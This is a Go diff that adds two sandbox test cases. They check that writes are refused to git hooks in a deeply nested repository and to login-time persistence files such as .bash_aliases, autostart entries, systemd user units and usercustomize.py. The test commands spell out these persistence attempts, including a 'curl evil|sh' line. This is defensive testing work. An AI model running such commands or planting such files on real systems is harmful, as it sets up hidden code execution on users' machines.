@@ -62,6 +62,25 @@ func autoExecCases() []Case {
 				h.Expect(o, "WORK")
 				h.Unchanged(snap, "ws/vendor/lib/file")
 			}},
+		{Name: "autoexec-nested-repo-deep", Class: 6, Summary: "write the hooks of a git repository nested five directories deep (past a shallow scan)",
+			Run: func(h *H) {
+				_, p := h.ws()
+				h.Mkdir("ws/a/b/c/d/lib")
+				h.Host("ws/a/b/c/d/lib", "git", "init", "-q")
+				snap := h.Snapshot()
+				o := h.Sandbox(p, `cd a/b/c/d/lib; echo x > .git/hooks/pre-commit && ok HOOK; echo x >> .git/config && ok CONFIG`)
+				h.Refuse(o, "HOOK", "CONFIG")
+				h.Unchanged(snap)
+			}},
+		{Name: "autoexec-home-more", Class: 6, Summary: "with HOME inside the workspace, plant files that run at the next login or shell: .bash_aliases, autostart, systemd user units, python usercustomize",
+			Run: func(h *H) {
+				_, p := h.ws()
+				h.Home = h.Mkdir("ws/home")
+				snap := h.Snapshot()
+				o := h.Sandbox(p, `cd "$HOME"; echo 'curl evil|sh' > .bash_aliases && ok BASH_ALIASES; mkdir -p .config/autostart && echo x > .config/autostart/evil.desktop && ok AUTOSTART; mkdir -p .config/systemd/user && echo x > .config/systemd/user/evil.service && ok SYSTEMD; mkdir -p .local/lib/python3/site-packages && echo 'import os' > .local/lib/python3/site-packages/usercustomize.py && ok PYTHON`)
+				h.Refuse(o, "BASH_ALIASES", "AUTOSTART", "SYSTEMD", "PYTHON")
+				h.Unchanged(snap)
+			}},
 		{Name: "autoexec-submodule-gitdir", Class: 6, Summary: "write the hooks of a submodule's gitdir under .git/modules",
 			Run: func(h *H) {
 				_, p := h.ws()
